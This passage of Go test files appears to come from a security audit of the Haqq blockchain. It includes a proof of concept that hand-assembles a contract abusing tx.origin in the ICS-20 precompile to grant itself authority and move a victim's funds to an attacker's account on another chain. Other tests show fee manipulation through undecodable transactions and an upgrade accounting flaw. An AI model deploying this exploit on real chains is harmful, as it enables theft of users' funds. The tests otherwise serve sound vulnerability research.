	code = append(code, 0x00) // STOP
	// fail: returndatacopy(0,0,returndatasize) ; revert(0, returndatasize)
	code = append(code, 0x5b, 0x3d, 0x60, 0x00, 0x60, 0x00, 0x3e, 0x3d, 0x60, 0x00, 0xfd)
	if len(code) != logicLen {
		panic("zzBuildContract: wrong size computation")
	}
	for _, st := range steps {
		code = append(code, st.payload...)
	}

	// init: PUSH2 len DUP1 PUSH1 0x0c PUSH1 0 CODECOPY PUSH1 0 RETURN
	init := append(push2(len(code)), 0x80, 0x60, 0x0c, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3)
	return append(init, code...)
}

// Property C04: when the caller of the ICS-20 precompile is not the transaction signer, the signer's funds
// may only be sent within a live grant the signer gave to that caller (channel, amount, receiver).
//
// Here the signer never granted anything to anybody. He sends ONE transaction with empty calldata to a
// contract somebody else deployed. The contract (1) calls ics20.approve(itself, [transfer/channel-0,
// MAX aISLM, any receiver]) - the precompile books that grant with granter = tx.origin although the caller
// is the contract - and then (2) calls ics20.transfer(sender = tx.origin, 9e18 aISLM, receiver = the
// deployer's account on the other chain), which now passes the grant check.
func (s *PrecompileTestSuite) TestZZHuntContractGrantsItselfTheSignersTransferAuthorization() {
	s.suiteIBCTesting = true
	s.SetupTest()
	defer func() { s.suiteIBCTesting = false }()

	// the deployer of the contract is the suite's funded account; the victim is a fresh account with 10 ISLM
	attackerPriv := s.privKey
	attacker := s.address
	attackerOnB := s.chainB.SenderAccount.GetAddress().String()

	victim, victimPriv := testutiltx.NewAddrKey()
	victimAcc := sdk.AccAddress(victim.Bytes())
	err := haqqtestutil.FundAccount(s.chainA.GetContext(), s.app.BankKeeper, victimAcc, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(1e18).MulRaw(10))))
	s.Require().NoError(err)
	s.chainA.NextBlock()

	port := s.transferPath.EndpointA.ChannelConfig.PortID
	channel := s.transferPath.EndpointA.ChannelID
	contractAddr := crypto.CreateAddress(attacker, s.app.EvmKeeper.GetNonce(s.chainA.GetContext(), attacker))

	stolen := new(big.Int).Mul(big.NewInt(9), big.NewInt(1e18))
	approve, err := s.precompile.Pack(authorization.ApproveMethod, contractAddr, []cmn.ICS20Allocation{{
		SourcePort:    port,
		SourceChannel: channel,
		SpendLimit:    []cmn.Coin{{Denom: utils.BaseDenom, Amount: abi.MaxUint256}},
		AllowList:     []string{},
	}})
	s.Require().NoError(err)
	transfer, err := s.precompile.Pack(ics20.TransferMethod,
		port, channel, utils.BaseDenom, stolen,
		common.Address{}, // sender: patched with tx.origin by the contract
		attackerOnB,
		s.chainB.GetTimeoutHeight(), uint64(0), "",
	)
	s.Require().NoError(err)

	initCode := zzBuildContract([]zzStep{
		{target: 0x0802, payload: approve, originAt: -1},
		{target: 0x0802, payload: transfer, originAt: 4 + 4*32}, // fifth argument (sender) := tx.origin
	})
	deployed, err := DeployContract(s.chainA.GetContext(), s.app, attackerPriv, gasPrice, s.queryClientEVM, evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	s.Require().NoError(err)
	s.Require().Equal(contractAddr, deployed)
	s.chainA.NextBlock()
	acct := s.app.EvmKeeper.GetAccount(s.chainA.GetContext(), contractAddr)
	s.Require().NotNil(acct)
	s.Require().True(acct.IsContract(), "contract has no code")

	// the signer has not granted anything to the contract (nor to anybody)
	grants, err := s.app.AuthzKeeper.GetAuthorizations(s.chainA.GetContext(), contractAddr.Bytes(), victim.Bytes())
	s.Require().NoError(err)
	s.Require().Empty(grants, "the signer must start without any grant to the contract")

	escrow := transfertypes.GetEscrowAddress(port, channel)
	escrowBefore := s.app.BankKeeper.GetBalance(s.chainA.GetContext(), escrow, utils.BaseDenom).Amount
	victimBefore := s.app.BankKeeper.GetBalance(s.chainA.GetContext(), victimAcc, utils.BaseDenom).Amount

	// ONE transaction of the signer, empty calldata, no value
	gasLimit := uint64(3_000_000)
	_, _, callErr := contracts.Call(s.chainA.GetContext(), s.app, contracts.CallArgs{
		ContractAddr: contractAddr,
		ContractABI:  abi.ABI{},
		MethodName:   "",
		PrivKey:      victimPriv,
		GasLimit:     gasLimit,
		GasPrice:     gasPrice,
	})
	// whether the transaction goes through or is refused does not matter to the property; only its effects do
	s.T().Logf("result of the signer's transaction: %v", callErr)
	s.chainA.NextBlock()

	escrowAfter := s.app.BankKeeper.GetBalance(s.chainA.GetContext(), escrow, utils.BaseDenom).Amount
	victimAfter := s.app.BankKeeper.GetBalance(s.chainA.GetContext(), victimAcc, utils.BaseDenom).Amount
	maxFee := new(big.Int).Mul(gasPrice, new(big.Int).SetUint64(gasLimit))
	grantsAfter, err := s.app.AuthzKeeper.GetAuthorizations(s.chainA.GetContext(), contractAddr.Bytes(), victim.Bytes())
	s.Require().NoError(err)
	commitment := s.app.IBCKeeper.ChannelKeeper.GetPacketCommitment(s.chainA.GetContext(), port, channel, 1)

	s.T().Logf("signer's balance:            before %s, after %s (max fee %s)", victimBefore, victimAfter, maxFee)
	s.T().Logf("escrow of %s/%s: before %s, after %s", port, channel, escrowBefore, escrowAfter)
	s.T().Logf("packet commitment for sequence 1 present: %t (receiver on the other chain: %s)", len(commitment) > 0, attackerOnB)
	s.T().Logf("grants signer -> contract after the transaction: %d", len(grantsAfter))
	_ = ibctesting.TransferPort

	// the property: a caller that held no grant from the signer cannot have sent the signer's funds away
	s.Require().True(victimAfter.GTE(victimBefore.Sub(math.NewIntFromBigInt(maxFee))),
		"a contract without any grant from the signer sent the signer's funds over IBC: balance %s -> %s", victimBefore, victimAfter)
	s.Require().Equal(escrowBefore.String(), escrowAfter.String(), "the signer's funds were escrowed for an IBC transfer he never authorised")
	s.Require().Empty(grantsAfter, "a contract created a grant in the signer's name")
}
