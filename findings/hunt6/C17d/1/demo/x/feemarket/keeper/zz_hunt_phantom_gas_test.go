package keeper_test

import (
	"encoding/json"
	"math/big"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simutils "github.com/cosmos/cosmos-sdk/testutil/sims"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/feemarket/types"
)

// zzHuntNextBlock ends the current block and begins the next one through the real ABCI entry points
// (baseapp.EndBlock / Commit / BeginBlock), the way CometBFT drives the application.
func zzHuntNextBlock() {
	header := s.ctx.BlockHeader()
	s.app.EndBlock(abci.RequestEndBlock{Height: header.Height})
	s.app.Commit()
	header.Height++
	header.AppHash = s.app.LastCommitID().Hash
	s.app.BeginBlock(abci.RequestBeginBlock{Header: header})
	s.ctx = s.app.BaseApp.NewContext(false, header)
}

// zzHuntSetup starts a chain with the given block gas limit and the default fee market parameters (base fee
// 1e9, denominator 8, elasticity 2, min gas multiplier 0.5, min gas price 0) and begins its first block.
func zzHuntSetup(maxGas int64) {
	chainID := utils.TestEdge2ChainID + "-3"
	newapp := app.NewHaqq(log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{}, app.DefaultNodeHome, 0,
		encoding.MakeConfig(app.ModuleBasics), simutils.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(chainID))
	genesisState := app.NewTestGenesisState(newapp.AppCodec())
	genesisState[types.ModuleName] = newapp.AppCodec().MustMarshalJSON(types.DefaultGenesisState())
	stateBytes, err := json.MarshalIndent(genesisState, "", "  ")
	s.Require().NoError(err)
	cp := *app.DefaultConsensusParams
	cp.Block = &tmproto.BlockParams{MaxBytes: 200000, MaxGas: maxGas}
	newapp.InitChain(abci.RequestInitChain{ChainId: chainID, Validators: []abci.ValidatorUpdate{}, AppStateBytes: stateBytes, ConsensusParams: &cp})
	s.app = newapp
	s.SetupApp(false)
	s.app.BeginBlock(abci.RequestBeginBlock{Header: s.ctx.BlockHeader()})
}

// A block that contains nothing but undecodable one-byte "transactions" executes nothing, declares no gas
// and pays no fee: its gas figure is 0 and the next base fee is the EIP-1559 value for g = 0 < T
// (base - base/denominator). Instead every DeliverTx leaves the gas of baseapp's consensus-params read on the
// gas meter of the block context, which is never reset inside the block, and every transaction that fails
// before the ante handler installs its own meter is charged the running total: the block gas meter, and
// with it the fee market's gas figure, grows quadratically with the number of such transactions and the
// base fee goes UP after an empty block.
func (suite *KeeperTestSuite) TestZZHuntPhantomGasOfUndecodableTxsMovesBaseFee() {
	const maxGas = int64(40_000_000) // T = 20,000,000 with the default elasticity of 2

	zzHuntSetup(maxGas)
	zzHuntNextBlock()
	zzHuntNextBlock()

	k := s.app.FeeMarketKeeper
	params := k.GetParams(s.ctx)
	suite.Require().True(params.MinGasPrice.IsZero())
	baseBefore := k.GetBaseFee(s.ctx)
	suite.Require().Equal(1, baseBefore.Sign())

	// the block: 250 identical one-byte transactions that do not decode
	const n = 250
	var sumUsed int64
	var firstUsed, lastUsed int64
	for i := 0; i < n; i++ {
		res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: []byte{0xff}})
		suite.Require().NotEqual(uint32(0), res.Code, "the bytes are not a transaction")
		suite.Require().Contains(res.Log, "tx parse error")
		if i == 0 {
			firstUsed = res.GasUsed
		}
		lastUsed = res.GasUsed
		sumUsed += res.GasUsed
	}
	suite.T().Logf("GasUsed of the first undecodable tx: %d, of the %dth (same bytes): %d, sum: %d", firstUsed, n, lastUsed, sumUsed)

	zzHuntNextBlock()

	figure := k.GetBlockGasWanted(s.ctx)
	baseAfter := k.GetBaseFee(s.ctx)
	// EIP-1559 for g = 0 < T: base - base*(T-0)/T/denominator, floor = min gas price (0)
	want := new(big.Int).Sub(baseBefore, new(big.Int).Div(baseBefore, big.NewInt(int64(params.BaseFeeChangeDenominator))))
	suite.T().Logf("gas figure of the block: %d (target %d); base fee before %s, after %s, EIP-1559 for an empty block %s",
		figure, uint64(maxGas)/uint64(params.ElasticityMultiplier), baseBefore, baseAfter, want)

	suite.Assert().Equal(firstUsed, lastUsed, "identical undecodable transactions are reported with different GasUsed")
	suite.Assert().Equal(uint64(0), figure, "nothing was executed, declared or paid for in the block, yet its gas figure is not 0")
	suite.Require().Equal(sdkmath.NewIntFromBigInt(want).String(), sdkmath.NewIntFromBigInt(baseAfter).String(),
		"the base fee after a block without any paid gas is not the EIP-1559 value for g = 0")
}
