package keeper_test

import (
	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	upgradetypes "github.com/cosmos/cosmos-sdk/x/upgrade/types"

	v180 "github.com/haqq-network/haqq/app/upgrades/v1.8.0"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/ucdao/types"
)

// zzLedger returns the three figures the property equates: the sum of the holders' shares,
// the recorded total, and the coins held by the DAO module account.
func (suite *KeeperTestSuite) zzLedger() (shares, total, pool sdk.Coins) {
	shares = sdk.NewCoins()
	suite.app.DaoKeeper.IterateAllBalances(suite.ctx, func(_ sdk.AccAddress, c sdk.Coin) bool {
		shares = shares.Add(c)
		return false
	})
	total = suite.app.DaoKeeper.GetTotalBalance(suite.ctx)
	pool = suite.app.BankKeeper.GetAllBalances(suite.ctx, authtypes.NewModuleAddress(types.ModuleName))
	return shares, total, pool
}

// A holder funds the DAO with 100 ISLM. Somebody else sends 5 ISLM with an ordinary bank
// MsgSend to the address of the former "dao" module account (it is not a module account of
// this application any more, hence not a blocked address). Then the planned upgrade v1.8.0
// runs. Afterwards the DAO module account must still hold exactly the holders' shares.
func (suite *KeeperTestSuite) TestZZHuntLegacyDaoAddressSweep() {
	suite.SetupTest()

	gasPrice := sdkmath.NewInt(1000000000)
	islm := func(n int64) sdk.Coin {
		return sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(n).Mul(sdkmath.NewInt(1_000_000_000_000_000_000)))
	}

	// the address hard-coded in app/upgrades/v1.8.0/upgrades.go is the module address of the old module name
	legacyDao := authtypes.NewModuleAddress(types.ModuleOldName)
	suite.Require().Equal("haqq1vwr8z00ty7mqnk4dtchr9mn9j96nuh6wme0t2z", legacyDao.String())
	suite.Require().False(suite.app.BankKeeper.BlockedAddr(legacyDao), "the legacy dao address is expected to be an ordinary address")

	// holder
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, suite.address, sdk.NewCoins(islm(200))))
	// third party
	donorPriv, err := ethsecp256k1.GenerateKey()
	suite.Require().NoError(err)
	donor := sdk.AccAddress(donorPriv.PubKey().Address().Bytes())
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, donor, sdk.NewCoins(islm(50))))
	suite.Commit()

	// 1. the holder funds the DAO with 100 ISLM (a real transaction)
	_, err = testutil.DeliverTx(suite.ctx, suite.app, suite.priv, &gasPrice, signing.SignMode_SIGN_MODE_DIRECT,
		types.NewMsgFund(sdk.NewCoins(islm(100)), suite.address))
	suite.Require().NoError(err)
	suite.Commit()

	shares, total, pool := suite.zzLedger()
	suite.Require().Equal(sdk.NewCoins(islm(100)).String(), shares.String())
	suite.Require().Equal(shares.String(), total.String())
	suite.Require().Equal(shares.String(), pool.String())

	// 2. a third party sends 5 ISLM to the legacy dao address (a real bank MsgSend transaction)
	_, err = testutil.DeliverTx(suite.ctx, suite.app, donorPriv, &gasPrice, signing.SignMode_SIGN_MODE_DIRECT,
		banktypes.NewMsgSend(donor, legacyDao, sdk.NewCoins(islm(5))))
	suite.Require().NoError(err, "bank MsgSend to the legacy dao address")
	suite.Commit()

	// 3. the upgrade runs
	suite.Require().True(suite.app.UpgradeKeeper.HasHandler(v180.UpgradeName))
	suite.Require().NotPanics(func() {
		suite.app.UpgradeKeeper.ApplyUpgrade(suite.ctx, upgradetypes.Plan{Name: v180.UpgradeName, Height: suite.ctx.BlockHeight()})
	})

	// the property: sum of the shares == recorded total == coins held by the module account
	shares, total, pool = suite.zzLedger()
	suite.T().Logf("after v1.8.0: shares=%s total=%s module account=%s", shares, total, pool)
	suite.Assert().Equal(sdk.NewCoins(islm(100)).String(), shares.String(), "sum of the holders' shares")
	suite.Assert().Equal(shares.String(), total.String(), "recorded total must equal the sum of the shares")
	suite.Assert().Equal(shares.String(), pool.String(), "the DAO module account must hold exactly the holders' shares")

	// consequence: the state the chain is in cannot be exported and started from again
	exported := suite.app.DaoKeeper.ExportGenesis(suite.ctx)
	suite.Assert().NotPanics(func() {
		cacheCtx, _ := suite.ctx.CacheContext()
		suite.app.DaoKeeper.InitGenesis(cacheCtx, exported)
	}, "the exported ucdao genesis must be importable over the exported bank state")
}
