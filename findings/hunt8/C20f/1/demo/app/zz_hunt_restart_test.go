package app_test

import (
	"encoding/json"
	"fmt"
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	cmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	cryptocodec "github.com/cosmos/cosmos-sdk/crypto/codec"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	upgradetypes "github.com/cosmos/cosmos-sdk/x/upgrade/types"
	"github.com/cosmos/ibc-go/v7/testing/mock"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	stakingprecompile "github.com/haqq-network/haqq/precompiles/staking"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

const zzChainID = utils.TestEdge2ChainID + "-3"

func zzNewApp(db dbm.DB) *app.Haqq {
	return app.NewHaqq(log.NewNopLogger(), db, nil, true, map[int64]bool{}, app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(zzChainID),
	)
}

type zzNode struct {
	name    string
	db      dbm.DB
	app     *app.Haqq
	restart bool
}

func (n *zzNode) maybeRestart() {
	if n.restart {
		n.app = zzNewApp(n.db)
	}
}

func TestZZRestartDifferential(t *testing.T) {
	encCfg := encoding.MakeConfig(app.ModuleBasics)
	txCfg := encCfg.TxConfig

	privVal := mock.NewPV()
	pubKey, err := privVal.GetPubKey()
	require.NoError(t, err)
	validator := cmtypes.NewValidator(pubKey, 1)
	valSet := cmtypes.NewValidatorSet([]*cmtypes.Validator{validator})

	addr1, priv1 := testutiltx.NewAccAddressAndKey()
	addr2, priv2 := testutiltx.NewAccAddressAndKey()
	_ = priv2
	amt, _ := sdkmath.NewIntFromString("1000000000000000000000000")
	accs := []authtypes.GenesisAccount{
		&haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccount(addr1, nil, 0, 0), CodeHash: common.BytesToHash(evmtypes.EmptyCodeHash).Hex()},
		&haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccount(addr2, nil, 1, 0), CodeHash: common.BytesToHash(evmtypes.EmptyCodeHash).Hex()},
	}
	balances := []banktypes.Balance{
		{Address: addr1.String(), Coins: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, amt))},
		{Address: addr2.String(), Coins: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, amt))},
	}

	a := &zzNode{name: "continuous", db: dbm.NewMemDB()}
	b := &zzNode{name: "restarted", db: dbm.NewMemDB(), restart: true}
	a.app = zzNewApp(a.db)
	b.app = zzNewApp(b.db)

	// genesis
	cdc := a.app.AppCodec()
	gs := app.NewDefaultGenesisState()
	authGenesis := authtypes.NewGenesisState(authtypes.DefaultParams(), accs)
	gs[authtypes.ModuleName] = cdc.MustMarshalJSON(authGenesis)
	pk, err := cryptocodec.FromTmPubKeyInterface(validator.PubKey)
	require.NoError(t, err)
	pkAny, err := codectypes.NewAnyWithValue(pk)
	require.NoError(t, err)
	bondAmt := sdk.DefaultPowerReduction
	valAddr := sdk.ValAddress(validator.Address)
	val := stakingtypes.Validator{
		OperatorAddress: valAddr.String(), ConsensusPubkey: pkAny, Status: stakingtypes.Bonded,
		Tokens: bondAmt, DelegatorShares: sdkmath.LegacyOneDec(), UnbondingTime: time.Unix(0, 0).UTC(),
		Commission:        stakingtypes.NewCommission(sdkmath.LegacyZeroDec(), sdkmath.LegacyZeroDec(), sdkmath.LegacyZeroDec()),
		MinSelfDelegation: sdkmath.ZeroInt(),
	}
	sp := stakingtypes.DefaultParams()
	sp.BondDenom = utils.BaseDenom
	stGen := stakingtypes.NewGenesisState(sp, []stakingtypes.Validator{val},
		[]stakingtypes.Delegation{stakingtypes.NewDelegation(addr1, valAddr, sdkmath.LegacyOneDec())})
	gs[stakingtypes.ModuleName] = cdc.MustMarshalJSON(stGen)
	total := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, amt.MulRaw(2).Add(bondAmt)))
	balances = append(balances, banktypes.Balance{
		Address: authtypes.NewModuleAddress(stakingtypes.BondedPoolName).String(),
		Coins:   sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, bondAmt)),
	})
	bankGen := banktypes.NewGenesisState(banktypes.DefaultGenesisState().Params, balances, total, nil, nil)
	gs[banktypes.ModuleName] = cdc.MustMarshalJSON(bankGen)
	stateBytes, err := json.Marshal(gs)
	require.NoError(t, err)

	for _, n := range []*zzNode{a, b} {
		n.app.InitChain(abci.RequestInitChain{
			ChainId: zzChainID, ConsensusParams: app.DefaultConsensusParams, AppStateBytes: stateBytes,
			Time: time.Unix(1700000000, 0).UTC(),
		})
	}

	height := int64(0)
	now := time.Unix(1700000000, 0).UTC()
	var lastHash []byte

	// mutate runs on the deliver state of both nodes (emulates a passed governance proposal)
	type block struct {
		txs    func(ctx sdk.Context) [][]byte
		mutate func(n *zzNode, ctx sdk.Context)
	}

	runBlock := func(bl block) {
		height++
		now = now.Add(6 * time.Second)
		header := tmproto.Header{
			ChainID: zzChainID, Height: height, Time: now, AppHash: lastHash,
			ProposerAddress: validator.Address.Bytes(), ValidatorsHash: valSet.Hash(), NextValidatorsHash: valSet.Hash(),
		}
		var txs [][]byte
		if bl.txs != nil {
			txs = bl.txs(a.app.BaseApp.NewContext(true, header))
		}
		var hashes [2][]byte
		var results [2][]abci.ResponseDeliverTx
		var ebs [2]abci.ResponseEndBlock
		var bbs [2]abci.ResponseBeginBlock
		for i, n := range []*zzNode{a, b} {
			bbs[i] = n.app.BeginBlock(abci.RequestBeginBlock{Header: header})
			if bl.mutate != nil {
				bl.mutate(n, n.app.BaseApp.NewContext(false, header))
			}
			for _, bz := range txs {
				results[i] = append(results[i], n.app.DeliverTx(abci.RequestDeliverTx{Tx: bz}))
			}
			ebs[i] = n.app.EndBlock(abci.RequestEndBlock{Height: height})
			n.app.Commit()
			hashes[i] = n.app.LastCommitID().Hash
			n.maybeRestart()
		}
		for j := range txs {
			ra, rb := results[0][j], results[1][j]
			t.Logf("h=%d tx=%d code=%d gasUsed=%d log=%.400s", height, j, ra.Code, ra.GasUsed, ra.Log)
			require.Equal(t, ra.Code, rb.Code, "h=%d tx=%d code; logs %q vs %q", height, j, ra.Log, rb.Log)
			require.Equal(t, ra.GasUsed, rb.GasUsed, "h=%d tx=%d gas used", height, j)
			require.Equal(t, ra.Data, rb.Data, "h=%d tx=%d data", height, j)
			require.Equal(t, ra.Log, rb.Log, "h=%d tx=%d log", height, j)
			require.Equal(t, fmt.Sprint(ra.Events), fmt.Sprint(rb.Events), "h=%d tx=%d events", height, j)
		}
		require.Equal(t, fmt.Sprint(bbs[0].Events), fmt.Sprint(bbs[1].Events), "h=%d begin block events", height)
		ea, _ := ebs[0].Marshal()
		eb, _ := ebs[1].Marshal()
		require.Equal(t, fmt.Sprintf("%X", ea), fmt.Sprintf("%X", eb), "h=%d end block", height)
		require.Equal(t, fmt.Sprintf("%X", hashes[0]), fmt.Sprintf("%X", hashes[1]), "h=%d app hash", height)
		ia, ib := a.app.Info(abci.RequestInfo{}), b.app.Info(abci.RequestInfo{})
		require.Equal(t, ia.LastBlockHeight, ib.LastBlockHeight)
		require.Equal(t, ia.LastBlockAppHash, ib.LastBlockAppHash)
		require.Equal(t, ia.AppVersion, ib.AppVersion, "h=%d Info().AppVersion", height)
		lastHash = hashes[0]
	}

	enc := txCfg.TxEncoder()
	ethTx := func(ctx sdk.Context, priv *ethsecp256k1.PrivKey, nonceInc uint64, to *common.Address, value *big.Int, data []byte, gas uint64) []byte {
		from := common.BytesToAddress(priv.PubKey().Address().Bytes())
		baseFee := a.app.FeeMarketKeeper.GetBaseFee(ctx)
		if baseFee == nil {
			baseFee = big.NewInt(0)
		}
		feeCap := new(big.Int).Add(new(big.Int).Mul(baseFee, big.NewInt(2)), big.NewInt(1000000000))
		msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
			ChainID: a.app.EvmKeeper.ChainID(), Nonce: a.app.EvmKeeper.GetNonce(ctx, from) + nonceInc, To: to, Amount: value,
			GasLimit: gas, GasFeeCap: feeCap, GasTipCap: big.NewInt(1), Input: data, Accesses: &ethtypes.AccessList{},
		})
		msg.From = from.Hex()
		tx, err := testutiltx.PrepareEthTx(txCfg, a.app, priv, msg)
		require.NoError(t, err)
		bz, err := enc(tx)
		require.NoError(t, err)
		return bz
	}
	cosmosTx := func(ctx sdk.Context, priv *ethsecp256k1.PrivKey, msgs ...sdk.Msg) []byte {
		gp := sdkmath.NewIntFromBigInt(a.app.FeeMarketKeeper.GetBaseFee(ctx)).MulRaw(2).AddRaw(1000000000)
		tx, err := testutiltx.PrepareCosmosTx(ctx, a.app, testutiltx.CosmosTxArgs{
			TxCfg: txCfg, Priv: priv, ChainID: zzChainID, Gas: 3000000, GasPrice: &gp, Msgs: msgs,
		}, signing.SignMode_SIGN_MODE_DIRECT)
		require.NoError(t, err)
		bz, err := enc(tx)
		require.NoError(t, err)
		return bz
	}

	stakingABI, err := stakingprecompile.LoadABI()
	require.NoError(t, err)
	stakingAddr := common.HexToAddress(stakingprecompile.PrecompileAddress)
	eth1 := common.BytesToAddress(addr1)
	eth2 := common.BytesToAddress(addr2)
	rcpt := testutiltx.GenerateAddress()
	erc20ABI := contracts.ERC20MinterBurnerDecimalsContract.ABI
	var erc20Addr common.Address

	// 1: empty
	runBlock(block{})
	// 2: eth transfer + bank send
	runBlock(block{txs: func(ctx sdk.Context) [][]byte {
		return [][]byte{
			ethTx(ctx, priv1, 0, &rcpt, big.NewInt(12345), nil, 21000),
			cosmosTx(ctx, priv2, banktypes.NewMsgSend(addr2, sdk.AccAddress(rcpt.Bytes()), sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 777)))),
		}
	}})
	// 3: staking precompile delegate + cosmos delegate + junk tx
	runBlock(block{txs: func(ctx sdk.Context) [][]byte {
		data, err := stakingABI.Pack(stakingprecompile.DelegateMethod, eth1, valAddr.String(), big.NewInt(1e18))
		require.NoError(t, err)
		return [][]byte{
			[]byte("junk"),
			ethTx(ctx, priv1, 0, &stakingAddr, nil, data, 500000),
			cosmosTx(ctx, priv2, stakingtypes.NewMsgDelegate(addr2, valAddr, sdk.NewInt64Coin(utils.BaseDenom, 5e17))),
		}
	}})
	// 4: deploy ERC20
	runBlock(block{txs: func(ctx sdk.Context) [][]byte {
		ctor, err := erc20ABI.Pack("", "Coin", "CTKN", uint8(18))
		require.NoError(t, err)
		data := append(append([]byte{}, contracts.ERC20MinterBurnerDecimalsContract.Bin...), ctor...)
		erc20Addr = crypto.CreateAddress(eth1, a.app.EvmKeeper.GetNonce(ctx, eth1))
		return [][]byte{ethTx(ctx, priv1, 0, nil, nil, data, 6000000)}
	}})
	// 5: register the ERC20 pair ("governance"), mint
	runBlock(block{
		mutate: func(n *zzNode, ctx sdk.Context) {
			_, err := n.app.Erc20Keeper.RegisterERC20(ctx, erc20Addr)
			require.NoError(t, err)
		},
		txs: func(ctx sdk.Context) [][]byte {
			data, err := erc20ABI.Pack("mint", eth1, big.NewInt(1000000))
			require.NoError(t, err)
			return [][]byte{ethTx(ctx, priv1, 0, &erc20Addr, nil, data, 300000)}
		},
	})
	// 6: convert ERC20 -> coin, then send the coin
	runBlock(block{txs: func(ctx sdk.Context) [][]byte {
		return [][]byte{
			cosmosTx(ctx, priv1, erc20types.NewMsgConvertERC20(sdkmath.NewInt(400000), addr2, erc20Addr, eth1)),
		}
	}})
	// 7: EVM params change ("governance"): fewer precompiles, extra EIP; then call the staking precompile again
	runBlock(block{
		mutate: func(n *zzNode, ctx sdk.Context) {
			p := n.app.EvmKeeper.GetParams(ctx)
			p.ActivePrecompiles = p.ActivePrecompiles[:2]
			p.ExtraEIPs = []int64{3855}
			require.NoError(t, n.app.EvmKeeper.SetParams(ctx, p))
		},
		txs: func(ctx sdk.Context) [][]byte {
			data, err := stakingABI.Pack(stakingprecompile.DelegateMethod, eth1, valAddr.String(), big.NewInt(1e18))
			require.NoError(t, err)
			return [][]byte{
				ethTx(ctx, priv1, 0, &stakingAddr, nil, data, 500000),
				cosmosTx(ctx, priv2, erc20types.NewMsgConvertCoin(sdk.NewInt64Coin(erc20types.CreateDenom(erc20Addr.String()), 1000), eth2, addr2)),
			}
		},
	})
	// 8: after the params change
	runBlock(block{txs: func(ctx sdk.Context) [][]byte {
		data, err := stakingABI.Pack(stakingprecompile.DelegateMethod, eth1, valAddr.String(), big.NewInt(1e18))
		require.NoError(t, err)
		tr, err := erc20ABI.Pack("transfer", eth2, big.NewInt(5))
		require.NoError(t, err)
		return [][]byte{
			ethTx(ctx, priv1, 0, &stakingAddr, nil, data, 500000),
			ethTx(ctx, priv1, 1, &erc20Addr, nil, tr, 300000),
			cosmosTx(ctx, priv2, stakingtypes.NewMsgUndelegate(addr2, valAddr, sdk.NewInt64Coin(utils.BaseDenom, 1e17))),
		}
	}})
	runBlock(block{})
	runBlock(block{})
	// schedule the v1.8.2 upgrade for the next block ("governance"), run it, go on
	runBlock(block{mutate: func(n *zzNode, ctx sdk.Context) {
		require.NoError(t, n.app.UpgradeKeeper.ScheduleUpgrade(ctx, upgradetypes.Plan{Name: "v1.8.2", Height: ctx.BlockHeight() + 1}))
	}})
	runBlock(block{})
	runBlock(block{txs: func(ctx sdk.Context) [][]byte {
		return [][]byte{ethTx(ctx, priv1, 0, &rcpt, big.NewInt(1), nil, 21000)}
	}})
}
