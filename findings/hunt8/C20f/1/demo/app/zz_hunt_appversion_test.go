package app_test

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
